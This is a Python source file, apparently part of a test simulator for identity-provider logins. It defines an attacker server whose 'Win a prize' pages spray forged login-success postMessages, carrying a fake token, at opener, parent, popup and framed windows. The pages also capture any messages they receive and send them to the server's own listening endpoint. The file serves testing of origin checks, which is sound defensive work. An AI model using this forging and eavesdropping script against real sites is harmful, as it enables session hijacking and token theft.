"""Pages of somebody who wants a person to be logged in with a token of theirs, or to hear one."""

from __future__ import annotations

import json
from collections.abc import Iterable
from html import escape
from typing import Any, Final
from urllib.parse import urlencode

from werkzeug import Request, Response

from simulators.identity.pages import literal, page
from simulators.identity.provider import IdentityProvider
from simulators.rest import Route

__all__ = ["FORGED", "AttackServer"]

FORGED: Final = "f0rged-t0ken"
#: All windows that a page can reach are told the forged messages, again and again for two seconds.
_STRIKE: Final = """
window.addEventListener("message", (event) => {
    navigator.sendBeacon("/heard", JSON.stringify({ data: String(event.data), origin: event.origin }));
});
let opened = null, left = 40;
function reached() {
    const near = [window.opener, window.top.opener, opened];
    if (window.parent !== window) near.push(window.parent);
    const frame = document.querySelector("iframe");
    if (frame) near.push(frame.contentWindow);
    return near.filter(Boolean);
}
function strike() {
    for (const each of reached()) for (const message of FORGED) each.postMessage(message, "*");
    document.getElementById("struck").textContent = String(reached().length);
    if (--left > 0) setTimeout(strike, 50);
}
const button = document.getElementById("open");
if (button) button.addEventListener("click", () => {
    opened = window.open(button.dataset.target);
    left = 40;
    strike();
});
strike();
"""


class AttackServer(IdentityProvider):
    """An origin of its own that forges messages and listens.

    :ivar heard: the messages that its pages got: ``data`` and ``origin`` of each.
    """

    def __init__(self) -> None:
        super().__init__()
        self.heard: list[dict[str, Any]] = []

    def forging(self, provider: str, *, token: str = FORGED) -> str:
        """Give the page that forges a success, for its opener, its parent and its parent's opener."""
        return f"{self.url}/forge?{urlencode({'provider': provider, 'token': token})}"

    def opening(self, target: str, provider: str, *, token: str = FORGED) -> str:
        """Give the page whose button ``open`` opens another page and forges a success for that."""
        asked = {"provider": provider, "token": token, "target": target}
        return f"{self.url}/open?{urlencode(asked)}"

    def embedding(self, target: str, provider: str, *, token: str = FORGED) -> str:
        """Give the page that has another page in a frame and forges a success for that."""
        asked = {"provider": provider, "token": token, "target": target}
        return f"{self.url}/embed?{urlencode(asked)}"

    def routes(self) -> Iterable[Route]:
        yield Route("GET", "/forge", self._forge)
        yield Route("GET", "/open", self._open)
        yield Route("GET", "/embed", self._embed)
        yield Route("POST", "/heard", self._hear)

    def _forge(self, request: Request) -> Response:
        return self._page(request, "")

    def _open(self, request: Request) -> Response:
        target = escape(request.args["target"])
        return self._page(request, f'<button id="open" data-target="{target}">Win a prize</button>')

    def _embed(self, request: Request) -> Response:
        return self._page(request, f'<iframe src="{escape(request.args["target"])}"></iframe>')

    def _page(self, request: Request, body: str) -> Response:
        provider = request.args["provider"]
        told = json.dumps({"token": request.args["token"], "provider": provider})
        forged = [f"authorizing:{provider}", f"authorization:{provider}:success:{told}"]
        script = f"const FORGED = {literal(forged)};{_STRIKE}"
        return page("Win a prize", f'<p id="struck">0</p>{body}', script=script)

    def _hear(self, request: Request) -> Response:
        self.heard.append(json.loads(request.get_data()))
        return Response(status=204)
